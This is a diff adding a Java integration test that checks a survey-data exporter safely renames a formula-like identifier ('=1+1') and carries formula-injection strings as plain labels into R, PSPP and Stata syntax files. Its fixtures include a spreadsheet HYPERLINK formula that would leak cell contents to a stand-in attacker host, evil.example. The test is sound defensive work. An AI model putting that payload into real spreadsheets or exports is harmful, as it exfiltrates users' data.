@@ -165,6 +165,43 @@ class FormulaCellsIT {
                 .anyMatch(line -> line.startsWith("item_total_r,'@calm,'=1+1,1,"));
     }
 
+    @Test
+    void the_id_that_is_no_variable_name_is_mapped_in_the_manifest_and_every_syntax_file_and_r_and_pspp_load_it()
+            throws Exception {
+        Path folder = run();
+
+        var manifest = new com.fasterxml.jackson.databind.ObjectMapper().readTree(folder.resolve("manifest.json").toFile());
+        assertThat(manifest.get("variableNames").toString()).isEqualTo("{\"=1+1\":\"v_1_1\"}");
+        for (String syntax : List.of("haven.R", "haven.sps", "haven.do")) {
+            assertThat(Files.readString(folder.resolve(syntax))).as(syntax).contains("  =1+1 -> v_1_1");
+        }
+
+        List<String> r = StatisticsPrograms.run(work, StatisticsPrograms.rscript(), "-e", """
+                source(commandArgs(TRUE)[1])
+                cat(names(responses_wide), "\\n")
+                cat(attr(responses_wide$v_1_1, "label"), "\\n")
+                cat(names(attr(responses_wide$v_1_1, "labels"))[1], unname(attr(responses_wide$v_1_1, "labels"))[1], "\\n")
+                cat(mean(responses_wide$v_1_1[responses_wide$wave == 1]), "\\n")
+                cat(levels(scores_long$subscale), "\\n")
+                """, folder.resolve("haven.R").toString());
+        assertThat(r).containsExactly("pid wave v_1_1 calm_2 trust_1 trust_2 trust_3",
+                "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")", "@strongly disagree -3", "-2",
+                "'@calm trust '+safety");
+
+        Path driver = work.resolve("check.sps");
+        Files.writeString(driver, "INSERT FILE='" + folder.resolve("haven.sps") + "' CD=YES.\n"
+                + "DISPLAY DICTIONARY /VARIABLES=v_1_1.\nLIST /VARIABLES=wave v_1_1.\n");
+        Path output = work.resolve("check.csv");
+        StatisticsPrograms.run(work, StatisticsPrograms.pspp(), "-O", "format=csv", "-o", output.toString(),
+                driver.toString());
+        String pspp = Files.readString(output);
+        assertThat(pspp).doesNotContainIgnoringCase("error").doesNotContainIgnoringCase("warning")
+                .contains("v_1_1,3,\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Click\"\")\"")
+                .contains("-3,@strongly disagree");
+        assertThat(pspp.lines().filter(line -> line.matches("[12],-?\\d")).toList())
+                .containsExactlyInAnyOrder("1,-3", "1,-1", "2,-1", "2,1");
+    }
+
     private Path run() throws IOException {
         Path out = work.resolve("out");
         int exit = BatchCommand.run(new String[] {"--bootstrap-servers=" + broker.getBrokersAsString(),
